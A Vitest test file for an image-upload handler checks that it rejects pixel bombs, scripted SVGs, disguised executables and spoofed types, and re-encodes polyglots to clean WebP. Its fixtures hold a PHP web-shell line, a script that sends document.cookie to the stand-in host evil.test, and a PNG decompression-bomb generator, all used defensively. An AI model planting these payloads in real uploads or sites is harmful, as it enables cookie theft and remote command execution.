import fs from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import zlib from 'node:zlib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { HttpError } from '../errors.server'
import { createLocalStorage, isValidStorageKey, type Storage } from '../storage.server'
import { ImageUploadError, storeUploadedImage } from './image-upload.server'

let root: string
let storage: Storage

beforeAll(async () => {
  root = await fs.mkdtemp(path.join(os.tmpdir(), 'tremplin-images-'))
  storage = createLocalStorage(root)
})
afterAll(() => fs.rm(root, { recursive: true, force: true }))

/** Every file the storage holds, relative to its root. */
async function storedFiles(): Promise<string[]> {
  const entries = await fs.readdir(root, { recursive: true, withFileTypes: true })
  return entries.filter((entry) => entry.isFile()).map((entry) => entry.name)
}

function photo(width = 40, height = 30) {
  return sharp({ create: { width, height, channels: 3, background: '#2f6fd6' } })
}

/** A PNG whose header declares width × height, with a tiny compressed body of zero rows. */
function pngDeclaring(width: number, height: number): Uint8Array {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4)
    length.writeUInt32BE(data.length)
    const typed = Buffer.concat([Buffer.from(type, 'latin1'), data])
    const crc = Buffer.alloc(4)
    crc.writeUInt32BE(zlib.crc32(typed))
    return Buffer.concat([length, typed, crc])
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 1 // 1-bit greyscale: the smallest rows there are
  const rows = zlib.deflateSync(Buffer.alloc(height * (1 + Math.ceil(width / 8))), { level: 9 })
  return Buffer.concat([
    Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]),
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

async function refusal(input: Uint8Array | Blob): Promise<ImageUploadError> {
  const error = await storeUploadedImage(input, { folder: 'posts', storage }).catch(
    (caught: unknown) => caught,
  )
  expect(error).toBeInstanceOf(ImageUploadError)
  return error as ImageUploadError
}

const includes = (bytes: Uint8Array, text: string) => Buffer.from(bytes).includes(text)

describe('storeUploadedImage refuses', () => {
  it('a file over 5 Mo before looking at it, whatever its type', async () => {
    const png = await photo().png().toBuffer()
    const oversized = new Uint8Array(5 * 1024 * 1024 + 1)
    oversized.set(png)
    const error = await refusal(oversized)
    expect(error).toMatchObject({ reason: 'file_too_large', status: 413 })
    expect(error.message).toBe('L’image dépasse 5 Mo.')
    expect(error).toBeInstanceOf(HttpError)
    const file = new File([oversized], 'vacances.png', { type: 'image/png' })
    expect(await refusal(file)).toMatchObject({ reason: 'file_too_large' })
    expect(await storedFiles()).toEqual([])
  })

  it('a pixel bomb: a 50 Ko PNG declaring 20000×20000, without decoding it', async () => {
    const bomb = pngDeclaring(20_000, 20_000)
    expect(bomb.byteLength).toBeLessThan(100_000)
    const before = process.memoryUsage().rss
    const error = await refusal(new File([bomb as Uint8Array<ArrayBuffer>], 'bombe.png'))
    expect(error).toMatchObject({ reason: 'too_many_pixels', status: 400 })
    expect(error.message).toBe('L’image est trop grande (40 mégapixels au plus).')
    // 400 million pixels would take hundreds of MB; refused from the header, nothing was.
    expect(process.memoryUsage().rss - before).toBeLessThan(100 * 1024 * 1024)
    expect(await storedFiles()).toEqual([])
  })

  it('an image just over 40 megapixels (7000×6000), well under sharp’s own limit', async () => {
    expect(await refusal(pngDeclaring(7000, 6000))).toMatchObject({ reason: 'too_many_pixels' })
  })

  it('an SVG carrying a script, named and typed as an image', async () => {
    const svg = Buffer.from(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>',
    )
    for (const file of [
      new File([svg], 'logo.svg', { type: 'image/svg+xml' }),
      new File([svg], 'logo.png', { type: 'image/png' }),
    ]) {
      const error = await refusal(file)
      expect(error).toMatchObject({ reason: 'not_an_image', status: 415 })
      expect(error.message).toBe('Seuls les fichiers image sont acceptés.')
    }
    expect(await storedFiles()).toEqual([])
  })

  it('executables named .jpg and typed image/jpeg (ELF and PE/MZ)', async () => {
    const elf = Buffer.concat([
      Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
      Buffer.alloc(512),
    ])
    const pe = Buffer.concat([
      Buffer.from('MZ'),
      Buffer.alloc(58),
      Buffer.from([0x80, 0, 0, 0]),
      Buffer.alloc(512),
    ])
    for (const bytes of [elf, pe]) {
      const file = new File([bytes], 'photo.jpg', { type: 'image/jpeg' })
      expect(await refusal(file)).toMatchObject({ reason: 'not_an_image' })
    }
    expect(await storedFiles()).toEqual([])
  })

  it('a spoofed type: PDF bytes declared as image/png', async () => {
    const pdf = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n')
    const file = new File([pdf], 'facture.png', { type: 'image/png' })
    expect(await refusal(file)).toMatchObject({ reason: 'not_an_image' })
  })

  it('a JPEG header followed by garbage, and an empty file', async () => {
    const fake = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(2000, 0x41)])
    expect(await refusal(fake)).toMatchObject({ reason: 'not_an_image' })
    expect(await refusal(new Uint8Array())).toMatchObject({ reason: 'not_an_image' })
    expect(await storedFiles()).toEqual([])
  })
})

describe('storeUploadedImage keeps only pixels', () => {
  it('re-encodes a GIF/PHP/ZIP polyglot into a clean WebP without the payload', async () => {
    const gif = await photo().gif().toBuffer()
    const payload = Buffer.concat([
      Buffer.from('<?php system($_GET["cmd"]); ?><script>alert(1)</script>'),
      Buffer.from([0x50, 0x4b, 0x03, 0x04]),
      Buffer.from('shell.php'),
    ])
    const polyglot = Buffer.concat([gif, payload])
    const { key } = await storeUploadedImage(new File([polyglot], 'chat.gif'), {
      folder: 'posts',
      storage,
    })
    const stored = (await storage.get(key))!
    expect(Buffer.from(stored.subarray(0, 4)).toString('latin1')).toBe('RIFF')
    expect(Buffer.from(stored.subarray(8, 12)).toString('latin1')).toBe('WEBP')
    expect((await sharp(stored).metadata()).format).toBe('webp')
    for (const marker of ['<?php', '<script', 'PK\u0003\u0004', 'shell.php']) {
      expect(includes(stored, marker)).toBe(false)
    }
  })

  it('drops a script hidden in a JPEG comment segment', async () => {
    const jpeg = await photo().jpeg().toBuffer()
    const comment = Buffer.from('<script>fetch("//evil.test/"+document.cookie)</script>')
    const length = Buffer.alloc(2)
    length.writeUInt16BE(comment.length + 2)
    // SOI, then a COM segment, then the rest of the JPEG.
    const polyglot = Buffer.concat([
      jpeg.subarray(0, 2),
      Buffer.from([0xff, 0xfe]),
      length,
      comment,
      jpeg.subarray(2),
    ])
    // Still a valid JPEG, script and all: sniffing alone would let it through.
    expect(polyglot.includes('<script>')).toBe(true)
    expect((await sharp(polyglot).metadata()).format).toBe('jpeg')
    const { key } = await storeUploadedImage(polyglot, { folder: 'posts', storage })
    const stored = (await storage.get(key))!
    expect((await sharp(stored).metadata()).format).toBe('webp')
    expect(includes(stored, '<script')).toBe(false)
    expect(includes(stored, 'evil.test')).toBe(false)
  })

  it('strips EXIF from a JPEG (after honouring its orientation) and answers a WebP', async () => {
    const jpeg = await photo(40, 30)
      .jpeg()
      .withExif({ IFD0: { Copyright: 'secret', Artist: 'Awa Diallo' } })
      .toBuffer()
    const rotated = await sharp(jpeg).withMetadata({ orientation: 6 }).toBuffer()
    expect(Buffer.from(rotated).includes('secret')).toBe(true)
    expect((await sharp(rotated).metadata()).orientation).toBe(6)

    const { key, url } = await storeUploadedImage(new File([rotated], 'IMG_0001.JPG'), {
      folder: 'posts',
      storage,
    })
    const stored = (await storage.get(key))!
    const metadata = await sharp(stored).metadata()
    expect(metadata).toMatchObject({ format: 'webp', width: 30, height: 40 })
    expect(metadata.exif).toBeUndefined()
    expect(metadata.icc).toBeUndefined()
    expect(metadata.xmp).toBeUndefined()
    expect(metadata.orientation).toBeUndefined()
    expect(includes(stored, 'secret')).toBe(false)
    expect(includes(stored, 'Awa Diallo')).toBe(false)
    expect(url).toBe(`/uploads/${key}`)
  })

  it('fits a 4000×3000 photo inside 2048×2048 (2048×1536) and never enlarges a small one', async () => {
    const large = await photo(4000, 3000).jpeg({ quality: 90 }).toBuffer()
    const { key } = await storeUploadedImage(large, { folder: 'posts', storage })
    expect(await sharp((await storage.get(key))!).metadata()).toMatchObject({
      format: 'webp',
      width: 2048,
      height: 1536,
    })
    const small = await photo(40, 30).png().toBuffer()
    const { key: smallKey } = await storeUploadedImage(small, { folder: 'posts', storage })
    expect(await sharp((await storage.get(smallKey))!).metadata()).toMatchObject({
      width: 40,
      height: 30,
    })
  })

  it('crops an avatar to a 512 px square and a banner to 1500×500, whatever was sent', async () => {
    const portrait = await photo(600, 900).jpeg().toBuffer()
    const avatar = await storeUploadedImage(portrait, { folder: 'profile_avatars', storage })
    const banner = await storeUploadedImage(portrait, { folder: 'profile_banners', storage })
    expect(await sharp((await storage.get(avatar.key))!).metadata()).toMatchObject({
      format: 'webp',
      width: 512,
      height: 512,
    })
    expect(await sharp((await storage.get(banner.key))!).metadata()).toMatchObject({
      format: 'webp',
      width: 1500,
      height: 500,
    })
  })

  it('accepts PNG, WebP, GIF and AVIF as well as JPEG', async () => {
    for (const format of ['png', 'webp', 'gif', 'avif'] as const) {
      const bytes = await photo().toFormat(format).toBuffer()
      const { key } = await storeUploadedImage(new Blob([bytes]), { folder: 'posts', storage })
      const { format: stored } = await sharp((await storage.get(key))!).metadata()
      expect({ format, stored }).toEqual({ format, stored: 'webp' })
    }
  })

  it('stores each upload under a fresh random key in its folder', async () => {
    const bytes = await photo().png().toBuffer()
    const first = await storeUploadedImage(bytes, { folder: 'posts', storage })
    const second = await storeUploadedImage(bytes, { folder: 'posts', storage })
    const avatar = await storeUploadedImage(bytes, { folder: 'profile_avatars', storage })
    const uuid = '[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}'
    expect(first.key).toMatch(new RegExp(`^posts/${uuid}\\.webp$`))
    expect(avatar.key).toMatch(new RegExp(`^profile_avatars/${uuid}\\.webp$`))
    expect(second.key).not.toBe(first.key)
    for (const { key } of [first, second, avatar]) expect(isValidStorageKey(key)).toBe(true)
    expect(await storage.get(second.key)).toEqual(await storage.get(first.key))
  })
})
